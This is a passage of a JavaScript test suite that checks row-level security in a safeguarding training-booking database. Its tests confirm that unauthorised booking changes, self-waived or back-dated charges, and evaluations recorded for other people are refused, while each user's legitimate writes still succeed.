    const started = await session(TA, c.id);
    startedAgo(started.id, 0.5);
    const open = await session(TA, c.id, { capacity: 1 });
    await book(person('police', 'practitioner'), open.id);
    const sub = `rls-${randomUUID().slice(0, 8)}`;
    for (const [what, sql] of [
      ['a briefing as a practitioner', insertBooking(bs.id, sub, 'police', 'confirmed', 1)],
      ['a draft course', insertBooking(ds.id, sub, 'police', 'confirmed', 1)],
      ['a closed session', insertBooking(closed.id, sub, 'police', 'confirmed', 1)],
      ['a cancelled session', insertBooking(off.id, sub, 'police', 'confirmed', 1)],
      ['a started session', insertBooking(started.id, sub, 'police', 'confirmed', 1)],
      ['waiting at a made-up place', insertBooking(open.id, sub, 'police', 'waitlisted', 1000)],
      ['already promoted', insertBooking(open.id, sub, 'police', 'waitlisted', 2, ', now()')],
    ]) assert.ok(refused(asApi(sub, 'police', 'practitioner', sql)), what);
    // and the API's own kind of row still goes in
    assert.equal(asApi(sub, 'police', 'practitioner', insertBooking(open.id, sub, 'police', 'waitlisted', 2)), '1');
    assert.equal(asApi(`lead-${sub}`, 'police', 'safeguarding_lead', insertBooking(bs.id, `lead-${sub}`, 'police', 'confirmed', 1)), '1');
  });

  it('a delegate\'s own booking changes only by its cancellation, late past the cut-off', async () => {
    const c = await course(TA);
    const far = await session(TA, c.id, { capacity: 5 });
    const near = await session(TA, c.id, { starts_at: iso(inDays(2)), ends_at: iso(inDays(2, 12)) });
    const p = person('police', 'practitioner');
    const sub = subOf(p);
    const b = (await book(p, far.id)).body;
    const n = (await book(p, near.id)).body;
    const upd = (id, set) => asApi(sub, 'police', 'practitioner', `with u as (update safeguard.training_bookings set ${set}, cancelled_at = now(), cancelled_by = '${sub}'
      where id = '${id}' returning 1) select count(*) from u`);
    for (const set of [
      `status = 'cancelled', delegate_agency = 'health'`,
      `status = 'cancelled', delegate_name = 'Someone Else'`,
      `status = 'cancelled', session_id = '${near.id}', queue_seq = 99`,
      `status = 'cancelled', line_manager_email = 'x@example.org'`,
      `status = 'late_cancelled'`, // not late: the free cut-off is days away
    ]) assert.ok(refused(upd(b.id, set)), set);
    assert.ok(refused(upd(n.id, `status = 'cancelled'`)), 'a late cancellation passed off as a free one');
    assert.match(upd(n.id, `status = 'late_cancelled'`), /late_cancelled or no_show without its charge/, 'and never without its charge');
    assert.equal(asApi(sub, 'police', 'practitioner', `update safeguard.training_bookings set status = 'late_cancelled', cancelled_at = now(),
      cancelled_by = '${sub}' where id = '${n.id}'; with i as (insert into safeguard.training_charges (id, booking_id, reason, amount_pence,
      currency, raised_by) values (gen_random_uuid(), '${n.id}', 'late_cancellation', 5000, 'GBP', '${sub}') returning 1) select count(*) from i`), '1');
    assert.equal(upd(b.id, `status = 'cancelled'`), '1');
    // a register status back to cancelled (dodging the no_show) is refused
    const { bookings: [r] } = await heldSession([p]);
    await mark(r.id, 'no_show');
    assert.ok(refused(upd(r.id, `status = 'cancelled', attendance_marked_at = null, attendance_marked_by = null`)));
    assert.equal(q(`select status from safeguard.training_bookings where id = '${r.id}'`), 'no_show');
  });

  it('charges: a lead cannot raise one on a colleague, a delegate only their own late one at the terms', async () => {
    const c = await course(TA);
    const near = await session(TA, c.id, { starts_at: iso(inDays(2)), ends_at: iso(inDays(2, 12)) });
    const victim = person('police', 'practitioner');
    const vb = (await book(victim, near.id)).body;
    // (first, when given, is a statement run before the insert, in the same transaction)
    const ins = (sub, roles, booking, amount = 5000, more = '', vals = '', first = '') => asApi(sub, 'police', roles, `${first}
      with i as (insert into safeguard.training_charges (id, booking_id, reason, amount_pence, currency, raised_by${more})
      values (gen_random_uuid(), '${booking}', 'late_cancellation', ${amount}, 'GBP', '${sub}'${vals}) returning 1) select count(*) from i`);
    assert.ok(refused(ins('lead-x', 'safeguarding_lead', vb.id, 100000000)), 'a lead on a colleague\'s live booking');
    assert.ok(refused(ins(subOf(victim), 'practitioner', vb.id)), 'a charge on a booking that is not late_cancelled');
    const p = person('police', 'practitioner');
    const b = (await book(p, near.id)).body;
    const late = `update safeguard.training_bookings set status = 'late_cancelled', cancelled_at = now(), cancelled_by = '${subOf(p)}' where id = '${b.id}';`;
    const own = (amount, more, vals) => ins(subOf(p), 'practitioner', b.id, amount, more, vals, late);
    assert.ok(refused(own(0)), 'a charge of nothing');
    assert.ok(refused(own(5000, ', status, waived_at, waived_by, waiver_reason', `, 'waived', now(), '${subOf(p)}', 'mine'`)), 'waived by oneself');
    assert.ok(refused(own(5000, ', raised_at', `, now() - interval '1 year'`)), 'back-dated out of the period');
    assert.equal(q(`select status from safeguard.training_bookings where id = '${b.id}'`), 'confirmed');
    assert.equal(own(5000), '1');
    assert.equal(q(`select b.status || ' ' || ch.amount_pence from safeguard.training_bookings b join safeguard.training_charges ch on ch.booking_id = b.id where b.id = '${b.id}'`), 'late_cancelled 5000');
    assert.equal(q(`select count(*) from safeguard.training_charges where booking_id = '${vb.id}'`), '0');
  });

  it('evaluations: only after attendance, the delegate\'s own; nobody records one on someone else\'s booking', async () => {
    const d = person('health', 'practitioner');
    const { bookings: [b] } = await heldSession([d]);
    const ins = (sub, agency, respondent) => asApi(sub, agency, 'practitioner', `with i as (insert into safeguard.training_evaluations
      (id, booking_id, respondent, respondent_sub, rating) values (gen_random_uuid(), '${b.id}', '${respondent}', '${sub}', 1) returning 1) select count(*) from i`);
    assert.ok(refused(ins(subOf(d), 'health', 'delegate')), 'not yet attended');
    await mark(b.id, 'attended');
    assert.ok(refused(ins('stranger', 'police', 'delegate')), 'a stranger as the delegate');
    assert.ok(refused(ins('stranger', 'police', 'manager')), 'a manager\'s before it is due');
    assert.ok(refused(ins(subOf(d), 'health', 'manager')), 'the delegate as their own manager');
    assert.equal(ins(subOf(d), 'health', 'delegate'), '1');
    // the real delegate's evaluation was not blocked by anyone: it is theirs
    assert.equal(q(`select respondent_sub from safeguard.training_evaluations where booking_id = '${b.id}'`), subOf(d));
  });

  // The token's email is part of the request's identity (app.email, set by
  // begin_request with app.sub): the database, not only the handler, ties a
  // manager's evaluation and the manager's requests to the email the
  // delegate named.  (It was a parameter, so with the API's role anyone
  // could list any manager's requests and record any manager's evaluation.)
  it('a manager\'s evaluation and the manager\'s requests are tied to the manager\'s email', async () => {
    const email = `mgr-${randomUUID().slice(0, 8)}@example.org`;
    const line = { line_manager_name: 'Mo Patel', line_manager_email: email };
    const [d1, d2] = [person('health', 'practitioner'), person('health', 'practitioner')];
    const { s, bookings: [b1, b2] } = await heldSession([d1, d2], { body: line });
    for (const b of [b1, b2]) assert.equal((await mark(b.id, 'attended')).status, 200);
    psql(`update safeguard.training_sessions set starts_at = now() - interval '4 months', ends_at = now() - interval '4 months' + interval '1 hour',
          booking_closes_at = now() - interval '4 months' where id = '${s.id}'`);
    // the manager's token spells the email in capitals: compared lower-cased, as 008 always did
    const mgr = person('police', 'practitioner', `mgr-${randomUUID().slice(0, 8)}`, { email: email.toUpperCase() });
    const stranger = person('police', 'practitioner'); // an email of their own
    const lead = person('health', 'safeguarding_lead'); // sees the delegates' bookings, is not their manager
    const noEmail = person('health', 'safeguarding_lead', `noemail-${randomUUID().slice(0, 8)}`, { email: undefined });
    assert.equal(JSON.parse(Buffer.from(noEmail.split('.')[1], 'base64url')).email, undefined);
    const evaluations = (b) => q(`select count(*) || ' ' || count(*) filter (where respondent = 'manager') from safeguard.training_evaluations where booking_id = '${b.id}'`);
    const mine = (b) => `select count(*) from safeguard.training_manager_requests() where booking_id = '${b.id}'`;
    const managed = (b) => `select count(*) from safeguard.training_managed_booking('${b.id}')`;
    const ins = (sub, agency, b, mail) => asApi(sub, agency, 'practitioner', `with i as (insert into safeguard.training_evaluations
      (id, booking_id, respondent, respondent_sub, rating) values (gen_random_uuid(), '${b.id}', 'manager', '${sub}', 1) returning 1) select count(*) from i`, mail);

    // begin_request sets app.email, lower-cased; a revoked token still fails it
    assert.equal(asApi('x', 'police', 'practitioner', `select safeguard.begin_request('x', 'police', 'practitioner', 'r', '', 'Mo.Patel@Example.ORG');
      select current_setting('app.email') || ' ' || safeguard.app_email()`), 'mo.patel@example.org mo.patel@example.org');
    const jti = `rev-${randomUUID()}`;
    psql(`insert into safeguard.token_revocations (jti, agency, revoked_by, revoked_by_agency) values ('${jti}', 'police', 'test', 'partnership')`);
    assert.match(asApi('x', 'police', 'practitioner', `select safeguard.begin_request('x', 'police', 'practitioner', 'r', '${jti}', '${email}')`), /ERROR.*token revoked/);
    // the functions that take any email from their caller are not the API's to call
    assert.match(asApi(subOf(stranger), 'police', 'practitioner', `select count(*) from safeguard.training_manager_requests('${email}')`), /ERROR.*permission denied/);
    assert.match(asApi(subOf(stranger), 'police', 'practitioner', `select count(*) from safeguard.training_managed_booking('${b1.id}', '${email}')`), /ERROR.*permission denied/);

    // row-level security alone: another email, or none, is no one's manager here
    for (const [who, mail] of [[stranger, `${subOf(stranger)}@police.example.org`], [noEmail, '']]) {
      const agency = who === stranger ? 'police' : 'health';
      assert.equal(asApi(subOf(who), agency, 'practitioner', mine(b1), mail), '0');
      assert.equal(asApi(subOf(who), agency, 'practitioner', managed(b1), mail), '0');
      assert.equal(asApi(subOf(who), agency, 'practitioner', `select safeguard.training_may_evaluate('${b1.id}', 'manager')`, mail), 'f');
      assert.ok(refused(ins(subOf(who), agency, b1, mail)), `${mail || 'no email'} as the manager`);
    }
    // nor is the delegate, even with the manager's email
    assert.ok(refused(ins(subOf(d1), 'health', b1, email)), 'the delegate as their own manager');
    assert.equal(evaluations(b1), '0 0');
    // the manager: their requests, and the evaluation, with the API's role alone
    const m = subOf(mgr);
    assert.equal(asApi(m, 'police', 'practitioner', mine(b1), email), '1');
    assert.equal(asApi(m, 'police', 'practitioner', managed(b1), email), '1');
    assert.equal(ins(m, 'police', b1, email), '1');
    assert.equal(q(`select respondent || ' ' || respondent_sub from safeguard.training_evaluations where booking_id = '${b1.id}'`), `manager ${m}`);

    // through the API: b2 is still asked for, of its manager only
    const asked = async (t) => (await request('GET', '/v1/me/evaluation-requests', { token: t })).body.items
      .filter((x) => x.respondent === 'manager').map((x) => x.booking_id);
    assert.deepEqual(await asked(stranger), []);
    assert.deepEqual(await asked(lead), []);
    assert.deepEqual(await asked(noEmail), []);
    assert.deepEqual(await asked(mgr), [b2.id]);
    const answer = (t) => request('POST', `/v1/bookings/${b2.id}/evaluations`, { token: t, body: { respondent: 'manager', rating: 2 } });
    let res = await answer(stranger); // cannot see the booking at all
    assert.deepEqual([res.status, res.body.type], [404, '/problems/not-found']);
    for (const t of [lead, noEmail]) { // see the booking, are not its manager
      res = await answer(t);
      assert.deepEqual([res.status, res.body.type], [403, '/problems/forbidden']);
    }
    assert.equal(evaluations(b2), '0 0');
    res = await answer(mgr);
    assert.equal(res.status, 201, res.text);
    assert.deepEqual([res.body.booking_id, res.body.respondent, res.body.rating], [b2.id, 'manager', 2]);
    assert.equal(q(`select respondent_sub from safeguard.training_evaluations where booking_id = '${b2.id}' and respondent = 'manager'`), m);
    assert.deepEqual(await asked(mgr), []);
  });

  it('completions: only published e-learning within the audience, not in the future', async () => {
    const webinar = await course(TA);
    const draft = await course(TA, { format: 'e_learning', duration_minutes: 10, status: 'draft' });
    const leads = await course(TA, { format: 'e_learning', duration_minutes: 10, audience: { roles: ['safeguarding_lead'] } });
    const el = await course(TA, { format: 'e_learning', duration_minutes: 10 });
    const sub = `rls-${randomUUID().slice(0, 8)}`;
    const ins = (courseId, at = 'now()') => asApi(sub, 'police', 'practitioner', `with i as (insert into safeguard.training_completions
      (id, course_id, delegate_sub, delegate_name, delegate_email, delegate_agency, completed_at)
      values (gen_random_uuid(), '${courseId}', '${sub}', 'N', 'n@example.org', 'police', ${at}) returning 1) select count(*) from i`);
    assert.ok(refused(ins(webinar.id)), 'a webinar');
    assert.ok(refused(ins(draft.id)), 'a draft');
    assert.ok(refused(ins(leads.id)), 'outside the audience');
    assert.ok(refused(ins(el.id, `now() + interval '1 year'`)), 'in the future');
    assert.ok(refused(ins(el.id, `now() - interval '10 years'`)), 'before the course existed');
    assert.equal(ins(el.id), '1');
  });
});
